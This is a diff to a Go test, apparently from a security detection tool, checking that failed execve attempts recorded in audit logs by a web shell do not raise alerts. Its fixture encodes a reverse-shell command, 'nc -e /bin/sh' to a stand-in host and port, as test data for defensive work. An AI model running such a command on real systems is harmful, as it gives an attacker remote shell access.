@@ -525,13 +525,14 @@ func TestAccessLogWithErrorLines(t *testing.T) {
 	}
 }
 
-// A web shell's `sh -c 'nc ...'` on a host without nc: dash tries execve in
-// each folder of PATH and each attempt fails. Audit logs record each one
-// with a start's shape (event.type start, event.outcome failure, the caller
-// as the process), and none is a process start: no alert, while the
-// successful start of a shell that follows still raises one.
+// A web shell's `sh -c 'exec nc ...'` on a host without nc: dash's exec,
+// like execvp (Java's Runtime.exec, Node's spawn, env), tries execve in each
+// folder of PATH, and each attempt fails. Audit logs record each one with a
+// start's shape (event.type start, event.outcome failure, the caller as the
+// process), and none is a process start: no alert, while the successful
+// start of a shell that follows still raises one.
 func TestFailedExecveIsNoStart(t *testing.T) {
-	title := strings.ToUpper(hex.EncodeToString([]byte("sh\x00-c\x00nc -e /bin/sh 198.51.100.1 4444")))
+	title := strings.ToUpper(hex.EncodeToString([]byte("sh\x00-c\x00exec nc -e /bin/sh 198.51.100.1 4444")))
 	var b strings.Builder
 	for i, dir := range []string{"/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin"} {
 		id := fmt.Sprintf("1795633400.%d:%d", 100+i, 100+i)
